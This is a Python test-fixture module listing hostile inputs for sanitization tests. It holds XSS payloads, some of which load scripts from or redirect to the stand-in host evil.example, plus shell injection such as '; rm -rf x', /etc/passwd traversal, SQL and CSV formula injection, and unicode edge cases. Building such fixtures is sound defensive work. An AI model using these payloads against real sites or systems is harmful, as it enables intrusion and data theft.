"""Words that would do something if a page took them for its own: a compact list, after the Big List of Naughty Strings
and the usual collections of XSS payloads. `hacked` is set, or a dialog opens, where one of them gets through."""

from __future__ import annotations

_DO = "window.hacked=alert(1)"

_TAGS = [
    f"<script>{_DO}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", f"<img src=x onerror={_DO}>",
    f"<svg onload={_DO}>", f"<svg/onload={_DO}//", f"<body onload={_DO}>", f"<iframe src=javascript:{_DO}>",
    f"<iframe srcdoc='<script>{_DO}</script>'>", f"<details open ontoggle={_DO}>", f"<input autofocus onfocus={_DO}>",
    f"<video><source onerror={_DO}></video>", f"<audio src=x onerror={_DO}>", f"<marquee onstart={_DO}>",
    f"<object data=javascript:{_DO}>", "<embed src=//evil.example/x.swf>", "<link rel=stylesheet href=//evil.example/x>",
    "<style>@import '//evil.example/x';</style>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>", f"<form action=//evil.example><button autofocus onfocus={_DO}>x</button></form>",
    f"<math><mtext><img src=x onerror={_DO}></mtext></math>", f"<template><script>{_DO}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_DO}>'>", f"<a href=javascript:{_DO}>click</a>",
    f"<a href='&#106;avascript:{_DO}'>click</a>", "<div style='background:url(//evil.example/x)'>x</div>",
    "<img src='//evil.example/pixel.png'>", "<img srcset='//evil.example/a 1x'>", f"<x onmouseover={_DO}>x</x>",
    f"<textarea></textarea><script>{_DO}</script>", f"</title><script>{_DO}</script>", f"</script><script>{_DO}</script>",
    f"</style><script>{_DO}</script>", f"<!--><script>{_DO}</script>-->", f"<![CDATA[<script>{_DO}</script>]]>",
    f"<?xml ?><script>{_DO}</script>", f"<plaintext><script>{_DO}</script>", f"<select><script>{_DO}</script></select>",
    f"<svg><animate onbegin={_DO} attributeName=x>", "<svg><use href='data:image/svg+xml,<svg/>'/></svg>",
    f"<svg><a xlink:href=javascript:{_DO}><text y=20>x</text></a></svg>", f"<keygen autofocus onfocus={_DO}>",
    f"<button popovertarget=x>b</button><div popover id=x onbeforetoggle={_DO}>x</div>", f"<dialog open onclose={_DO}>",
    f"<frameset onload={_DO}>", "<table background=//evil.example/x>", f"<isindex action=javascript:{_DO} type=image>",
]  # fmt: skip
_BREAKING_OUT = [
    f'"><script>{_DO}</script>', f"'><script>{_DO}</script>", f'" onmouseover="{_DO}', f"' onfocus='{_DO}' autofocus='",
    f'"/onclick={_DO}//', f"`onerror={_DO}`", f"javascript:{_DO}", f"JaVaScRiPt:{_DO}", f" javascript:{_DO}",
    f"data:text/html,<script>{_DO}</script>", f"vbscript:{_DO}", f"-{_DO}-", f"';{_DO}//", f'";{_DO}//',
    f"\\';{_DO}//", f"*/{_DO}/*", f"]]>{_DO}", f"--><img src=x onerror={_DO}>", f"<<script>{_DO}//<</script>",
    f"<scr<script>ipt>{_DO}</scr</script>ipt>", f"%3Cscript%3E{_DO}%3C/script%3E", f"&lt;script&gt;{_DO}&lt;/script&gt;",
    f"&#60;script&#62;{_DO}&#60;/script&#62;", f"\\u003cscript\\u003e{_DO}", f"\\x3cscript\\x3e{_DO}", f"+ADw-script+AD4-{_DO}",
    f"＜script＞{_DO}＜/script＞", "<a href=\"//evil.example\">x</a>", "//evil.example/x", "https://evil.example/",
    "hx-get=//evil.example", "<div hx-get='/hold' hx-trigger='load'>", f"<div hx-on:click='{_DO}'>", "<p hx-vals='js:{a:1}'>",
    f"<div data-hx-on--load='{_DO}'>", "<div hx-post=/hold hx-trigger=load hx-vals='\"because\":\"x\"'>",
]  # fmt: skip
_TEMPLATES = [
    "#{7*7}", "%{7*7}", "<%= 7*7 %>", "@(7*7)", "[[7*7]]", "$(id)", "`id`", "; rm -rf x", "| cat x", "&& id", "../../etc/passwd",
    "..\\..\\x", "%2e%2e%2f", "' OR 1=1 --", "1; DROP TABLE events", "%s%s%n", "%d", "0x7f", "__proto__", "constructor",
    "=cmd|'/C calc'!A0", "=HYPERLINK(\"//evil.example\")", "+1+1", "-1+1", "@SUM(1)",
]  # fmt: skip
_WORDS = [
    "undefined", "null", "None", "NaN", "true", "nil", "NULL", "\\", "\\\\", "'", '"', "''", "`", "&", "&amp;", "&nbsp;", "<", ">", "<>",
    "0", "-1", "1e309", "１２３", "٠١٢", "Ω≈ç√∫", "å∂ƒ©", "田中さんにあげて下さい", "社會科學院", "울란바토르", "🏳️‍🌈 👩‍👩‍👧‍👦", "👾 🙇 💁",
    "مرحبا بالعالم", "בראשית", "ﷺ", "Z̵͔͐a̶̜͝l̷͎̈g̶̟̎o̷͖̓", "T̢̛o̷", "ÅÅ", "ﬃ", "ẞ", "İi", "K", "ʇxǝʇ", "\u00a0x", "x" * 300,
    "a b", "a  b", "Scunthorpe General Hospital", "Craig Cockburn", "Robert'); DROP TABLE Students;--", "O'Brien & Söhne <GmbH>",
]  # fmt: skip

HOSTILE = [*_TAGS, *_BREAKING_OUT, *_TEMPLATES, *_WORDS]
